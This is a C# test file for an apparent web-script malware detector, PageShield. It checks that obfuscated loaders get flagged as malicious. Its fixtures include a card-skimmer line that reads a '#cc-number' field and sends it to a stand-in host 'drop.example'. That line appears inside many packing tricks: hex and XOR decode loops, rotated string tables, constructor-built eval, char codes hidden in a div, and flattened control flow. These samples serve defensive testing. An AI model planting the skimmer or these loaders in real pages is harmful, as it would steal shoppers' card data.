using System.Text;
using Jint;
using PageShield.Detection;
using PageShield.Detection.Decoding;
using PageShield.Detection.Flows;
using PageShield.Detection.Flows.Facts;
using PageShield.Detection.Values;
using PageShield.Inventory;
using PageShield.JavaScript;

namespace PageShield.Tests.Detection;

/// <summary>String tables and loops that build code, in the forms that obfuscators, minifiers over them, and packers leave.</summary>
public sealed class DecoderTests
{
    private const string Skimmer =
        "document.forms[0].onsubmit=function(){new Image().src='https://drop.example/x.gif?c='+document.querySelector('#cc-number').value};";
    private const string Honest = "document.querySelector('#copy').onclick=function(){navigator.clipboard.writeText(location.href)};";

    private static readonly ScriptJudge Judge = new();

    public static TheoryData<string> Loops =>
    [
        "(function(){var d='HEX',t='',i;for(i=0;i<d.length;i+=2)t+='%'+d.substr(i,2);Function(decodeURIComponent(t))();})();",
        "(function(){var d='HEX',t='';for(var i=0;i<d.length;i+=2){t+='%'+d.substr(i,2);}eval(unescape(t));})();",
        "(()=>{let d='HEX',t='';for(let i=0;i<d.length;i+=2)t+='%'+d.substr(i,2);eval(unescape(t))})();",
        "!function(d){for(var t='',i=0;i<d.length;i+=2)t+='%'+d.substr(i,2);new Function(unescape(t))()}('HEX');",
        "void function(){var d='HEX',t='',i=0;while(i<d.length){t+='%'+d.substr(i,2);i+=2}Function(unescape(t))()}();",
        "(function(){var d='HEX',t='';for(var i=0;i<d.length;i+=2)t+='%'+d.substr(i,2);Function(unescape(t))();}).call(this);",
        "var w=f,d='HEX',t='',i;for(i=0;i<d.length;i+=2)t+='%'+w(d,i);window[g(0)](unescape(t));function f(d,i){return d.substr(i,2)}function g(i){return ['eval'][i]}",
        "(function(){function go(d){for(var t='',i=0;i<d.length;i+=2)t+='%'+d.substr(i,2);eval(unescape(t))}go('HEX')})();",
    ];

    [Theory]
    [MemberData(nameof(Loops))]
    public void A_loop_that_builds_code_in_a_function_called_at_once_is_run(string packer)
    {
        Assert.Equal(VerdictKind.Malicious, VerdictOf(packer.Replace("HEX", Hex(Skimmer), StringComparison.Ordinal)));
        Assert.NotEqual(VerdictKind.Malicious, VerdictOf(packer.Replace("HEX", Hex(Honest), StringComparison.Ordinal)));
    }

    [Fact]
    public void A_loop_over_a_long_text_is_run_to_its_end()
    {
        var code = "/*" + new string('x', 70_000) + "*/" + Skimmer;
        var data = Convert.ToBase64String([.. code.Select(c => (byte)(c ^ 7))]);

        var verdict = VerdictOf($"(function(){{var d=atob('{data}'),t='';for(var i=0;i<d.length;i++){{t+=String.fromCharCode(d.charCodeAt(i)^7);}}eval(t);}})();");

        Assert.Equal(VerdictKind.Malicious, verdict);
    }

    [Fact]
    public void A_list_made_of_a_turned_table_is_made_after_the_turn()
    {
        var hidden = System.Text.Json.JsonSerializer.Serialize(string.Concat(Skimmer.Select(c => (char)(c ^ 7))));
        var source = $$"""
            function _t() { var t = ['charCodeAt', 'length', 'fromCharCode']; _t = function () { return t; }; return _t(); }
            function _d(i) { i = i - 16; return _t()[i]; }
            (function (f, n) { var t = f(); while (n--) t.push(t.shift()); })(_t, 1);
            var _w = [_d(16), _d(17), _d(18)];
            eval(function (p, k) { var s = ''; for (var i = 0; i < p[_w[0]]; i++) s += String[_w[1]](p[_w[2]](i) ^ k); return s; }({{hidden}}, 7));
            """;

        Assert.Equal(VerdictKind.Malicious, VerdictOf(source));
    }

    [Theory]
    [InlineData(Skimmer, VerdictKind.Malicious)]
    [InlineData(Honest, VerdictKind.Clean)]
    public void Texts_that_grow_in_names_that_nothing_declares_are_followed(string code, VerdictKind verdict)
    {
        var pieces = code.Chunk(7).Select(piece => "code+=" + System.Text.Json.JsonSerializer.Serialize(new string(piece)) + ";");

        Assert.Equal(verdict, VerdictOf($"name='const';tail='or';code='';other=name;{string.Concat(pieces)}name+='ruct';other=tail;name=name+other;[][name][name](code)();"));
    }

    [Fact]
    public void A_name_that_functions_write_too_may_be_anything_that_it_was_given()
    {
        const string source = "var code='/* nothing here */'; text=''; fill(); eval(text); function fill(){text=\"" + Skimmer + "\";}";

        Assert.Equal(VerdictKind.Malicious, VerdictOf(source));
    }

    [Fact]
    public void A_name_that_is_written_as_a_member_of_the_window_is_what_was_written_last() =>
        Assert.Equal(VerdictKind.Malicious, VerdictOf("text='/* nothing here */';window.text=\"" + Skimmer + "\";eval(text);"));

    [Fact]
    public void Code_in_the_text_of_the_page_is_found_by_what_unpacked_code_asks_for()
    {
        var codes = string.Join(';', Skimmer.Select(letter => (int)letter));
        var source = $"""
            <div id="q" style="position: absolute; top: -900px">{codes}</div>
            <script>c="construct";c+="or";e="eval(String.fromCharCode.apply(null,";e+="document.getElementById('q')";e+=".innerHTML.split(';')))";[][c][c](e)();</script>
            """;

        var judgement = Judge.Judge(new ScriptInput { Source = source });

        Assert.Equal(VerdictKind.Malicious, judgement.Verdict);
        Assert.Contains(judgement.Findings, finding => finding.Evidence.Contains("drop.example", StringComparison.Ordinal));
    }

    [Fact]
    public void Flattened_code_is_followed_in_the_order_that_it_runs_in()
    {
        const string source = """
            document.querySelector('#pay').addEventListener('click', function () {
                var order = '5|4|3|2|1|0'.split('|'), step = 0;
                while (true) {
                    switch (order[step++]) {
                        case '0': new Image().src = 'https://drop.example/x.gif?c=' + e; continue;
                        case '1': var e = d; continue;
                        case '2': var d = c; continue;
                        case '3': var c = b; continue;
                        case '4': var b = a; continue;
                        case '5': var a = document.querySelector('#cc-number').value; continue;
                    }
                    break;
                }
            });
            """;

        Assert.Equal(VerdictKind.Malicious, VerdictOf(source));
    }

    [Theory]
    [InlineData("function f(a){return a+1}", true)]
    [InlineData("function f(a){if(a)return;for(;;){return g(a)}}", true)]
    [InlineData("function f(a){return a?null:t[a]}", true)]
    [InlineData("function f(a){return(a,!0)||a}", true)]
    [InlineData("function f(a){switch(a){case 1:return typeof a}}", true)]
    [InlineData("function f(a){try{a()}catch(e){return`${e}`}}", true)]
    [InlineData("function f(a){return function(){return a}}", false)]
    [InlineData("function f(a){return a===1||{}}", false)]
    [InlineData("function f(a){var g=function(){return a};g()}", false)]
    [InlineData("function f(a){return this.x(a)}", false)]
    [InlineData("function f(a){return new Date(a)}", false)]
    [InlineData("function*f(a){return a}", false)]
    public void Only_functions_that_can_give_a_text_are_decoders(string function, bool may) =>
        Assert.Equal(may, TextReturns.MayBeIn((Acornima.Ast.IFunction)ParsedScript.Parse(function).Program!.Body[0]));

    [Theory]
    [InlineData(DecoderFixtures.SkimmerInFoldedTable)]
    [InlineData(DecoderFixtures.SkimmerBehindWrappers)]
    [InlineData(DecoderFixtures.SkimmerInTwoTables)]
    [InlineData(DecoderFixtures.SkimmerBehindStores)]
    public void A_skimmer_in_a_string_table_is_condemned(string source) => Assert.Equal(VerdictKind.Malicious, VerdictOf(source));

    [Theory]
    [InlineData(DecoderFixtures.TagInFoldedTable)]
    [InlineData(DecoderFixtures.TagBehindWrappers)]
    [InlineData(DecoderFixtures.TagInTwoTables)]
    public void An_honest_tag_in_a_string_table_is_not_condemned(string source) => Assert.NotEqual(VerdictKind.Malicious, VerdictOf(source));

    [Theory]
    [InlineData(DecoderFixtures.SkimmerInFoldedTable, "https://drop.example/x.gif?c=")]
    [InlineData(DecoderFixtures.SkimmerBehindWrappers, "https://drop.example/x.gif?c=")]
    [InlineData(DecoderFixtures.SkimmerBehindStores, "https://drop.example/x.gif?c=")]
    [InlineData(DecoderFixtures.SkimmerInTwoTables, "https://drop.example/x.gif?c=")]
    [InlineData(DecoderFixtures.TagInFoldedTable, "https://tags.example/t.js")]
    [InlineData(DecoderFixtures.TagInTwoTables, "https://tags.example/t.js")]
    [InlineData(DecoderFixtures.TagBehindWrappers, "https://tags.example/t.js")]
    public void String_tables_are_read_without_the_interpreter(string source, string text)
    {
        var work = new DecodingWork();
        work.TryTake(int.MaxValue);
        var program = ParsedScript.Parse(source).Program;
        Assert.NotNull(program);

        var flow = FlowAnalysis.Run(program, source, work, TestContext.Current.CancellationToken);

        Assert.Contains(flow.BuiltTexts, built => built.Text == text);
    }

    [Fact]
    public void Time_and_chance_are_the_same_in_every_run()
    {
        const string Source = "[new Date().getTime(), Date.now(), String(new Date()), new Date(2020, 5, 1).getTime(), new Date('2020-06-01T10:00').getTime(), Math.random(), Math.random()].join('|')";

        var first = Sandbox.Create(Sandbox.DecoderStatements, new DecodingWork(), TestContext.Current.CancellationToken).Evaluate(Source).AsString();
        var second = Sandbox.Create(Sandbox.DecoderStatements, new DecodingWork(), TestContext.Current.CancellationToken).Evaluate(Source).AsString();

        Assert.Equal(first, second);
        Assert.StartsWith("1715774400000|1715774400000|Wed May 15 2024 12:00:00 GMT+0000", first, StringComparison.Ordinal);
        Assert.Contains("|1590969600000|1591005600000|", first, StringComparison.Ordinal);
        Assert.NotEqual(first.Split('|')[5], first.Split('|')[6]);
    }

    private static VerdictKind VerdictOf(string source) => Judge.Judge(new ScriptInput { Source = source }).Verdict;

    private static string Hex(string text) => Convert.ToHexStringLower(Encoding.ASCII.GetBytes(text));
}
